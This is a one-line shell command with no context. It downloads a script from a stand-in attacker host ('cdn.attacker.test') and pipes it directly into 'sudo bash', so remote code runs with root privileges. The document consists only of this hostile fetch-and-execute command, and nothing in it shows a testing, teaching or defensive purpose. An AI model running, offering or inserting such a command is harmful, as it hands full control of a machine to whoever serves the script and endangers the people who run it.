curl -fsSL http://cdn.attacker.test/i.sh | sudo bash
